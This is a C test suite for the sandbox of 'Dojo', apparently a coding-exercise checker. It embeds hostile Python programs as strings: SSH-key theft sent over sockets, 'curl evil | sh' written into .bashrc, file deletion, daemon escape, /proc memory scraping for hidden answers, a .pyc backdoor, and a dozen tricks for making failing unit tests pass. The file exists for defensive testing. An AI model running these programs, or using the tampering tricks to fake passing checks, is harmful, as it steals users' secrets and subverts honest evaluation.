/* test-check-attacks.c: hostile programs against the real checker and its sandbox
 *
 * Copyright 2026 The Dojo authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Each test is an attack a learner (or a pack's code) could make under
 * Check, run as a real program through the real checker, and what the user
 * depends on: their files unread and unchanged, no connection made, nothing
 * left running, no verdict passed that the code did not earn.
 */

#include "config.h"

#include <signal.h>
#include <stdio.h>

#include "checker-fixture.h"

static char *
secret_path (Fixture *f)
{
  g_autofree char *base = g_path_get_dirname (f->project);

  return g_build_filename (base, "home", ".ssh", "id_ed25519", NULL);
}

static void
put_secret (Fixture *f)
{
  g_autofree char *path = secret_path (f);
  g_autofree char *dir = g_path_get_dirname (path);

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_assert_true (g_file_set_contents (path, "PRIVATE-KEY-OF-THE-USER\n", -1, NULL));
}

/* A service of the user's on the loopback. */
static GSocket *
listen_locally (guint16 *port)
{
  g_autoptr(GSocketAddress) any = g_inet_socket_address_new_from_string ("127.0.0.1", 0);
  g_autoptr(GSocketAddress) bound = NULL;
  g_autoptr(GError) error = NULL;
  GSocket *listener = g_socket_new (G_SOCKET_FAMILY_IPV4, G_SOCKET_TYPE_STREAM,
                                    G_SOCKET_PROTOCOL_TCP, &error);

  g_assert_no_error (error);
  g_assert_true (g_socket_bind (listener, any, TRUE, &error));
  g_assert_true (g_socket_listen (listener, &error));
  bound = g_socket_get_local_address (listener, &error);
  g_assert_no_error (error);
  *port = g_inet_socket_address_get_port (G_INET_SOCKET_ADDRESS (bound));
  g_socket_set_blocking (listener, FALSE);
  return listener;
}

static void
assert_nobody_connected (GSocket *listener)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GSocket) accepted = g_socket_accept (listener, NULL, &error);

  g_assert_null (accepted);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_WOULD_BLOCK);
}

static const char *says_nothing =
  "{ \"entry\": \"main.py\", \"limits\": { \"time_s\": 3 },"
  "  \"checks\": [ { \"type\": \"io\", \"id\": \"out\", \"expect\": \"nothing\" } ] }";

/* Read the user's private key and send it over the network. */
static void
test_steal_key (Fixture       *f,
                gconstpointer  data)
{
  g_autofree char *secret = secret_path (f);
  g_autoptr(GSocket) listener = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;
  g_autofree char *program = NULL;
  guint16 port;

  put_secret (f);
  listener = listen_locally (&port);
  program = g_strdup_printf (
    "import glob, os, socket\n"
    "found = []\n"
    "for path in ['%s', os.path.expanduser('~/.ssh/id_ed25519')] + glob.glob('/*/*/.ssh/*'):\n"
    "    try:\n"
    "        found.append(open(path).read())\n"
    "    except OSError:\n"
    "        pass\n"
    "for host in ('127.0.0.1', '10.0.2.2', '1.1.1.1'):\n"
    "    try:\n"
    "        socket.create_connection((host, %u), 1).sendall(repr(found).encode())\n"
    "        found.append('sent to ' + host)\n"
    "    except OSError:\n"
    "        pass\n"
    "print(''.join(found) or 'nothing')\n", secret, port);
  write_file (f->project, "main.py", program);

  verdict = check (f, says_nothing, NULL);

  assert_state (verdict, DOJO_VERDICT_PASSED);
  g_assert_cmpstr (dojo_check_result_get_actual (result_of (verdict, "out")), ==, "nothing\n");
  assert_nobody_connected (listener);
}

/* Write and delete files outside the project. */
static void
test_write_outside (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *base = g_path_get_dirname (f->project);
  g_autofree char *victim = g_build_filename (base, "victim.txt", NULL);
  g_autofree char *exercise_json = g_build_filename (f->exercise, "exercise.json", NULL);
  g_autofree char *bashrc = g_build_filename (g_get_home_dir (), ".bashrc", NULL);
  g_autofree char *program = NULL;
  g_autofree char *text = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;

  g_assert_true (g_file_set_contents (victim, "keep me", -1, NULL));
  g_assert_true (g_file_set_contents (exercise_json, "{}", -1, NULL));
  program = g_strdup_printf (
    "import os, shutil\n"
    "done = []\n"
    "for attempt in (lambda: os.remove('%s'),\n"
    "                lambda: open('%s', 'w').write('{\"checks\": []}'),\n"
    "                lambda: open('%s', 'a').write('curl evil | sh'),\n"
    "                lambda: shutil.rmtree('%s')):\n"
    "    try:\n"
    "        attempt()\n"
    "        done.append('did')\n"
    "    except OSError:\n"
    "        pass\n"
    "print(' '.join(done) or 'nothing')\n", victim, exercise_json, bashrc, f->exercise);
  write_file (f->project, "main.py", program);

  verdict = check (f, says_nothing, NULL);

  assert_state (verdict, DOJO_VERDICT_PASSED);
  g_assert_true (g_file_get_contents (victim, &text, NULL, NULL));
  g_assert_cmpstr (text, ==, "keep me");
  g_clear_pointer (&text, g_free);
  g_assert_true (g_file_get_contents (exercise_json, &text, NULL, NULL));
  g_assert_cmpstr (text, ==, "{}");
  g_assert_false (g_file_test (bashrc, G_FILE_TEST_EXISTS));
}

/* Leave a daemon (setsid and a second fork) that edits the project after
 * the check. */
static void
test_daemon (Fixture       *f,
             gconstpointer  data)
{
  g_autofree char *late = g_build_filename (f->project, "late.txt", NULL);
  g_autofree char *main_py = g_build_filename (f->project, "main.py", NULL);
  g_autofree char *real = realpath (f->project, NULL);
  g_autofree char *text = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;
  const char *program =
    "import os, time\n"
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    if os.fork() == 0:\n"
    "        for fd in range(0, 3):\n"
    "            os.close(fd)\n"
    "        time.sleep(1)\n"
    "        open('late.txt', 'w').write('still here')\n"
    "        open('main.py', 'w').write('print(\"changed\")')\n"
    "    os._exit(0)\n"
    "print('ok')\n";

  write_file (f->project, "main.py", program);
  verdict = check (f, one_second, NULL);
  assert_state (verdict, DOJO_VERDICT_PASSED);

  g_assert_cmpuint (live_processes_in (real), ==, 0);
  g_usleep (1500 * 1000);
  g_assert_false (g_file_test (late, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_get_contents (main_py, &text, NULL, NULL));
  g_assert_cmpstr (text, ==, program);
}

/* Find the expected output of a check: in the exercise, in the processes
 * it can see, in its own memory. */
static void
test_read_expected (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *exercise_json = g_build_filename (f->exercise, "exercise.json", NULL);
  g_autofree char *program = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;
  const char *exercise =
    "{ \"entry\": \"main.py\", \"limits\": { \"time_s\": 10 }, \"checks\": ["
    "  { \"type\": \"io\", \"id\": \"hidden\", \"hidden\": true,"
    "    \"expect\": \"SECRET-EXPECTED-7781\" },"
    /* A hidden case does not show what the program printed; this one does. */
    "  { \"type\": \"io\", \"id\": \"report\", \"expect\": \"\" } ] }";

  g_assert_true (g_file_set_contents (exercise_json, exercise, -1, NULL));
  program = g_strdup_printf (
    "import gc, glob, os, re\n"
    "found = set()\n"
    "# What the hunt finds when the answer is there to find.\n"
    "planted = ''.join(['SECRET-EXPECTED-', str(1234)])\n"
    "def look(data):\n"
    "    found.update(m.decode() for m in re.findall(rb'SECRET-EXPECTED-[0-9]+', data))\n"
    "for path in ['%s'] + glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline')"
    " + glob.glob('/proc/*/fd/*'):\n"
    "    try:\n"
    "        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)\n"
    "        try:\n"
    "            look(os.read(fd, 1 << 20))\n"
    "        finally:\n"
    "            os.close(fd)\n"
    "    except OSError:\n"
    "        pass\n"
    "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
    "    try:\n"
    "        maps = open('/proc/%%s/maps' %% pid).read().splitlines()\n"
    "        with open('/proc/%%s/mem' %% pid, 'rb') as mem:\n"
    "            for line in maps:\n"
    "                if not line.split()[1].startswith('r') or '[v' in line:\n"
    "                    continue\n"
    "                start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "                try:\n"
    "                    mem.seek(start)\n"
    "                    look(mem.read(min(end - start, 1 << 24)))\n"
    "                except (OSError, OverflowError, ValueError):\n"
    "                    pass\n"
    "    except OSError:\n"
    "        pass\n"
    "for obj in gc.get_objects():\n"
    "    if isinstance(obj, (str, bytes)):\n"
    "        look(obj if isinstance(obj, bytes) else obj.encode('utf-8', 'replace'))\n"

    "print(' '.join(sorted(found)) or 'nothing')\n", exercise_json);
  write_file (f->project, "main.py", program);

  verdict = check (f, exercise, NULL);

  /* It found what it planted in its own memory, and nothing else. */
  assert_state (verdict, DOJO_VERDICT_FAILED);
  g_assert_cmpstr (dojo_check_result_get_actual (result_of (verdict, "report")), ==,
                   "SECRET-EXPECTED-1234\n");
}

/* ------------------------------------------------------------------------ */
/* Tests that share a process with learner code */

static const char *unittest_exercise =
  "{ \"entry\": \"main.py\", \"limits\": { \"time_s\": 5 }, \"checks\": ["
  "  { \"type\": \"unittest\", \"id\": \"tests\", \"test\": \"tests/test_add.py\" } ] }";

static const char *test_add =
  "import unittest\n"
  "from main import add\n"
  "\n"
  "class TestAdd(unittest.TestCase):\n"
  "    def test_two_and_two(self):\n"
  "        self.assertEqual(add(2, 2), 4)\n"
  "\n"
  "    def test_zero(self):\n"
  "        self.assertEqual(add(0, 0), 0)\n";

static void
write_test (Fixture    *f,
            const char *name,
            const char *text)
{
  g_autofree char *dir = g_build_filename (f->exercise, "tests", NULL);

  g_assert_cmpint (g_mkdir_with_parents (dir, 0755), ==, 0);
  write_file (dir, name, text);
}

/* The wrong answer, and a way to make its failing test pass. */
static const char *tamperings[] = {
  /* Patch the assertion. */
  "import unittest\n"
  "unittest.TestCase.assertEqual = lambda self, *a, **k: None\n",
  /* Swap the assertion's code, keeping the function object. */
  "import unittest\n"
  "unittest.TestCase.assertEqual.__code__ = (lambda self, *a, **k: None).__code__\n",
  /* Replace TestCase with one whose run() reports success. */
  "import unittest\n"
  "class Fake(unittest.TestCase):\n"
  "    def run(self, result=None):\n"
  "        result.startTest(self)\n"
  "        result.addSuccess(self)\n"
  "        result.stopTest(self)\n"
  "unittest.TestCase = Fake\n",
  /* Reach the class's real dict past its read-only view. */
  "import gc, unittest\n"
  "gc.get_referents(unittest.TestCase.__dict__)[0]['assertEqual'] = lambda *a, **k: None\n",
  /* Write a report of its own and leave before the real one. */
  "import os\n"
  "os.write(3, b'0123456789abcdef0123456789abcdef\\n{\"tests\": 2, \"failures\": []}')\n"
  "os._exit(0)\n",
  /* Reopen the report channel through /proc. */
  "with open('/proc/self/fd/3', 'w') as f:\n"
  "    f.write('{\"tests\": 2, \"failures\": []}')\n"
  "import os\n"
  "os._exit(0)\n",
  /* Walk up the frames to the test result and make it forget failures. */
  "import sys\n"
  "def add(a, b):\n"
  "    f = sys._getframe(1)\n"
  "    while f is not None:\n"
  "        if hasattr(f.f_locals.get('result'), 'addFailure'):\n"
  "            f.f_locals['result'].addFailure = lambda *x: None\n"
  "        f = f.f_back\n"
  "    return a + b + 1\n",
  /* The same, starting from a traceback's frame. */
  "def add(a, b):\n"
  "    try:\n"
  "        raise KeyError\n"
  "    except KeyError as e:\n"
  "        f = e.__traceback__.tb_frame\n"
  "    while f is not None:\n"
  "        if hasattr(f.f_locals.get('result'), 'addFailure'):\n"
  "            f.f_locals['result'].addFailure = lambda *x: None\n"
  "        f = f.f_back\n"
  "    return a + b + 1\n",
  /* Through the traceback module's own frame walker, find the runner's
   * list of failures and keep emptying it. */
  "import threading, time, traceback\n"
  "def add(a, b):\n"
  "    for frame, _ in traceback.walk_stack(None):\n"
  "        r = frame.f_locals.get('result')\n"
  "        if r is not None and getattr(type(r).addFailure, '__defaults__', None):\n"
  "            records = type(r).addFailure.__defaults__[0]\n"
  "            def empty():\n"
  "                for _ in range(4000):\n"
  "                    records.clear()\n"
  "                    time.sleep(0.0005)\n"
  "            threading.Thread(target=empty, daemon=True).start()\n"
  "            break\n"
  "    return a + b + 1\n",
  /* Switch off the runner's own checks, then patch. */
  "import __main__, unittest\n"
  "for name in dir(__main__):\n"
  "    if callable(getattr(__main__, name)):\n"
  "        setattr(__main__, name, lambda *a, **k: [])\n"
  "unittest.TestCase.assertEqual = lambda self, *a, **k: None\n",
  /* Pass the first test by rote, and replace the next one while the
   * tests run. */
  "import sys\n"
  "def add(a, b):\n"
  "    sys.modules['test_add'].TestAdd.test_zero = lambda self: None\n"
  "    return 4 if (a, b) == (2, 2) else a + b + 1\n",
  /* Trace the runner's frames from another thread. */
  "import sys, threading\n"
  "def tracer(frame, event, arg):\n"
  "    frame.f_locals.get('records', []).clear()\n"
  "    return tracer\n"
  "threading.settrace(tracer)\n"
  "sys.settrace(tracer)\n",
};

static void
test_tamper_with_tests (Fixture       *f,
                        gconstpointer  data)
{
  write_test (f, "test_add.py", test_add);

  for (guint i = 0; i < G_N_ELEMENTS (tamperings); i++)
    {
      g_autoptr(DojoVerdict) verdict = NULL;
      g_autofree char *program = NULL;

      /* Every variant defines the wrong add() unless it brings its own. */
      program = g_strdup_printf ("def add(a, b):\n    return a + b + 1\n\n%s", tamperings[i]);
      write_file (f->project, "main.py", program);
      verdict = check (f, unittest_exercise, NULL);

      if (dojo_verdict_get_passed (verdict))
        g_error ("tampering %u passed:\n%s", i, tamperings[i]);
      g_assert_cmpint (dojo_verdict_get_state (verdict), !=, DOJO_VERDICT_INTERNAL_ERROR);
    }

  /* And the right answer still passes. */
  {
    g_autoptr(DojoVerdict) verdict = NULL;

    write_file (f->project, "main.py", "def add(a, b):\n    return a + b\n");
    verdict = check (f, unittest_exercise, NULL);
    assert_state (verdict, DOJO_VERDICT_PASSED);
  }
}

/* The guards against tampering leave honest tests alone: mocks, captured
 * output, assertRaises, subTest, logging and warnings all work. */
static void
test_honest_tests_unharmed (Fixture       *f,
                            gconstpointer  data)
{
  g_autoptr(DojoVerdict) verdict = NULL;

  write_test (f, "test_add.py",
    "import inspect, io, logging, unittest, warnings\n"
    "from contextlib import redirect_stdout\n"
    "from unittest.mock import MagicMock, patch\n"
    "import main\n"
    "\n"
    "class TestAdd(unittest.TestCase):\n"
    "    @classmethod\n"
    "    def setUpClass(cls):\n"
    "        cls.table = [(1, 2, 3), (2, 2, 4)]\n"
    "\n"
    "    def test_table(self):\n"
    "        for a, b, total in self.table:\n"
    "            with self.subTest(a=a, b=b):\n"
    "                self.assertEqual(main.add(a, b), total)\n"
    "\n"
    "    def test_asks_and_prints(self):\n"
    "        out = io.StringIO()\n"
    "        with patch('builtins.input', side_effect=['3', '4']), redirect_stdout(out):\n"
    "            main.ask()\n"
    "        self.assertEqual(out.getvalue(), '7\\n')\n"
    "\n"
    "    def test_raises(self):\n"
    "        with self.assertRaises(TypeError):\n"
    "            main.add('a', 1)\n"
    "\n"
    "    def test_mock_and_signature(self):\n"
    "        fake = MagicMock(return_value=5)\n"
    "        fake.__len__.return_value = 2\n"
    "        self.assertEqual(len(fake), 2)\n"
    "        self.assertEqual(list(inspect.signature(main.add).parameters), ['a', 'b'])\n"
    "\n"
    "    def test_logs_and_warns(self):\n"
    "        with self.assertLogs(level='WARNING'):\n"
    "            main.complain()\n"
    "        with self.assertWarns(UserWarning):\n"
    "            warnings.warn('careful')\n");
  write_file (f->project, "main.py",
    "import logging\n"
    "\n"
    "def add(a: int, b: int) -> int:\n"
    "    return a + b\n"
    "\n"
    "def ask() -> None:\n"
    "    print(add(int(input()), int(input())))\n"
    "\n"
    "def complain() -> None:\n"
    "    logging.getLogger('main').warning('something is off')\n");

  verdict = check (f, unittest_exercise, NULL);

  if (!dojo_verdict_get_passed (verdict))
    g_printerr ("%s\n", dojo_check_result_get_message (result_of (verdict, "tests")));
  assert_state (verdict, DOJO_VERDICT_PASSED);
}

/* A bytecode file planted where an older Dojo cached the harness's: it is
 * never loaded, and nothing is cached in the user's cache any more. */
static void
test_bytecode_backdoor (Fixture       *f,
                        gconstpointer  data)
{
  g_autofree char *harness_dir = realpath (g_getenv ("DOJO_HARNESS_DIR"), NULL);
  g_autofree char *cache = g_build_filename (g_get_user_cache_dir (), "dojo", "pycache", NULL);
  g_autofree char *marker = g_build_filename (g_get_user_cache_dir (), "backdoor-ran", NULL);
  g_autofree char *evil = g_build_filename (g_get_user_cache_dir (), "evil.py", NULL);
  g_autofree char *script = NULL;
  g_autofree char *evil_text = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;
  g_autoptr(GError) error = NULL;
  int status;

  g_assert_cmpint (g_mkdir_with_parents (g_get_user_cache_dir (), 0700), ==, 0);
  evil_text = g_strdup_printf ("open('%s', 'w').write('ran')\n"
                               "def main(argv=None):\n"
                               "    raise SystemExit(0)\n", marker);
  g_assert_true (g_file_set_contents (evil, evil_text, -1, NULL));
  /* Unchecked: Python would load it without looking at the source. */
  script = g_strdup_printf (
    "import py_compile, sys\n"
    "tag = sys.implementation.cache_tag\n"
    "py_compile.compile('%s', cfile='%s%s/dojo_harness.' + tag + '.pyc',\n"
    "    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)\n",
    evil, cache, harness_dir);
  {
    const char *argv[] = { "/usr/bin/python3", "-c", script, NULL };

    g_assert_true (g_spawn_sync (NULL, (char **)argv, NULL, G_SPAWN_DEFAULT, NULL, NULL,
                                 NULL, NULL, &status, &error));
    g_assert_no_error (error);
    g_assert_cmpint (status, ==, 0);
  }

  write_file (f->project, "main.py", "print('not ok')\n");
  verdict = check (f, one_second, NULL);

  assert_state (verdict, DOJO_VERDICT_FAILED);
  g_assert_false (g_file_test (marker, G_FILE_TEST_EXISTS));
}

/* Runs a check of @program with a stand-in for @tool first in PATH, and
 * DOJO_SANDBOX set to @kind. */
static DojoVerdict *
check_with_tool (Fixture    *f,
                 const char *kind,
                 const char *tool,
                 const char *script,
                 const char *program)
{
  g_autofree char *base = g_path_get_dirname (f->project);
  g_autofree char *bin = g_build_filename (base, "bin", NULL);
  g_autofree char *path_to_tool = g_build_filename (bin, tool, NULL);
  g_autofree char *old_path = g_strdup (g_getenv ("PATH"));
  g_autofree char *path = g_strdup_printf ("%s:%s", bin, old_path);
  DojoVerdict *verdict;

  g_assert_cmpint (g_mkdir_with_parents (bin, 0755), ==, 0);
  write_file (bin, tool, script);
  g_assert_cmpint (g_chmod (path_to_tool, 0755), ==, 0);
  g_setenv ("PATH", path, TRUE);
  g_setenv ("DOJO_SANDBOX", kind, TRUE);

  write_file (f->project, "main.py", program);
  verdict = check (f, one_second, NULL);

  g_setenv ("PATH", old_path, TRUE);
  g_unsetenv ("DOJO_SANDBOX");
  return verdict;
}

/* Inside Flatpak the runs go through flatpak-spawn to the portal.  Here a
 * stand-in for it runs the command as the portal would start it, and
 * notes what it was asked for. */
static void
test_flatpak_path (Fixture       *f,
                   gconstpointer  data)
{
  g_autofree char *base = g_path_get_dirname (f->project);
  g_autofree char *log = g_build_filename (base, "spawn.log", NULL);
  g_autofree char *fake = NULL;
  g_autofree char *asked = NULL;
  g_autoptr(DojoVerdict) verdict = NULL;

  fake = g_strdup_printf ("#!/bin/sh\n"
                          "echo \"$@\" >> '%s'\n"
                          "while [ \"$1\" != -- ]; do\n"
                          "  case \"$1\" in --directory=*) cd \"${1#--directory=}\" ;; esac\n"
                          "  shift\n"
                          "done\n"
                          "shift\n"
                          "exec \"$@\"\n", log);
  verdict = check_with_tool (f, "flatpak", "flatpak-spawn", fake, "print('ok')\n");

  assert_state (verdict, DOJO_VERDICT_PASSED);
  g_assert_true (g_file_get_contents (log, &asked, NULL, NULL));
  assert_contains (asked, "--sandbox --no-network --watch-bus --clear-env");
  assert_contains (asked, "--forward-fd=3 --forward-fd=4");
  assert_contains (asked, "--sandbox-expose-path=");
}

/* Where no sandbox can be made, nothing runs, and the learner is told it
 * is not their code's fault. */
static void
test_no_sandbox (Fixture       *f,
                 gconstpointer  data)
{
  g_autofree char *ran = g_build_filename (f->project, "ran.txt", NULL);
  g_autoptr(DojoVerdict) verdict = NULL;

  verdict = check_with_tool (f, "bwrap", "bwrap",
                             "#!/bin/sh\n"
                             "echo 'bwrap: No permissions to create new namespace' >&2\n"
                             "exit 1\n",
                             "open('ran.txt', 'w').write('ran')\nprint('ok')\n");

  assert_state (verdict, DOJO_VERDICT_INTERNAL_ERROR);
  assert_contains (dojo_verdict_get_message (verdict), "could not start the sandbox");
  assert_contains (dojo_verdict_get_details (verdict), "No permissions");
  g_assert_false (g_file_test (ran, G_FILE_TEST_EXISTS));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("/check-attacks/steal-key", test_steal_key);
  ADD ("/check-attacks/write-outside", test_write_outside);
  ADD ("/check-attacks/daemon", test_daemon);
  ADD ("/check-attacks/read-expected", test_read_expected);
  ADD ("/check-attacks/tamper-with-tests", test_tamper_with_tests);
  ADD ("/check-attacks/honest-tests-unharmed", test_honest_tests_unharmed);
  ADD ("/check-attacks/bytecode-backdoor", test_bytecode_backdoor);
  ADD ("/check-attacks/flatpak-path", test_flatpak_path);
  ADD ("/check-attacks/no-sandbox", test_no_sandbox);

  return g_test_run ();
}
